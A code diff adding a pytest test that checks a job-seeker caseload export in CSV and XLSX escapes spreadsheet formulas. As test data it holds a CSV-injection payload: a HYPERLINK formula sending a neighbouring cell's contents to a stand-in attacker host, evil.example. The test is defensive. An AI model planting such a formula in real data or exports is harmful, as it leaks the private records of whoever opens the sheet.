@@ -778,3 +778,29 @@ def test_a_token_cannot_be_made_with_a_forged_scope_or_expiry(city_a, users, wor
     assert response.status_code in (200, 400)
     with city_context(city_a):
         assert not ApiToken.objects.filter(user=users["staff"]).exists()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_formula_typed_as_a_name_is_not_a_formula_in_the_caseload_export(city_b, world, fmt):
+    """Someone registers as '=HYPERLINK(...)': staff opening the export must not run it (CSV injection)."""
+    evil = '=HYPERLINK("https://evil.example/?"&B3,"Klik")'
+    with city_context(city_b):
+        JobSeeker.objects.create(name=evil, kelurahan="@SUM(1+1)")
+    response = world["b"].get(reverse("api:jobseeker-export", kwargs={"fmt": fmt}))
+    assert response.status_code == 200
+    if fmt == "csv":
+        import csv
+        import io
+
+        cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
+    else:
+        import io
+
+        from openpyxl import load_workbook
+
+        book = load_workbook(io.BytesIO(response.content))
+        sheet = book.worksheets[0]
+        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+        cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [cell for cell in cells if cell.startswith(("=", "@"))], cells
+    assert "'" + evil in cells
